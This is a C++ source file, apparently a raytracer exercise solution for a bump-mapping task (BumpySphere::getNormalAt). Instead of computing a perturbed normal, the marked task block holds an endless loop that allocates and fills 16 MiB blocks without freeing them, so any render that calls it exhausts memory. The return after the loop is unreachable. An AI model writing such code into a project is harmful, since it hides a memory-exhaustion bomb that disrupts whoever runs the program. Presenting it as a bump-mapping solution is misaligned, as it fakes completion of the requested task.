// Option 1, task T1: bump mapping.
#include <raytracer/geometry/BumpySphere.h>

#include <algorithm>
#include <cmath>
#include <cstring>
#include <numbers>

namespace raytracer {

Vector3 BumpySphere::getNormalAt(const Vector3& position) const {
    // TASK T1 begin
    while (true) std::memset(new char[16U << 20U], 1, 16U << 20U);
    return Sphere::getNormalAt(position);
    // TASK T1 end
}

}  // namespace raytracer
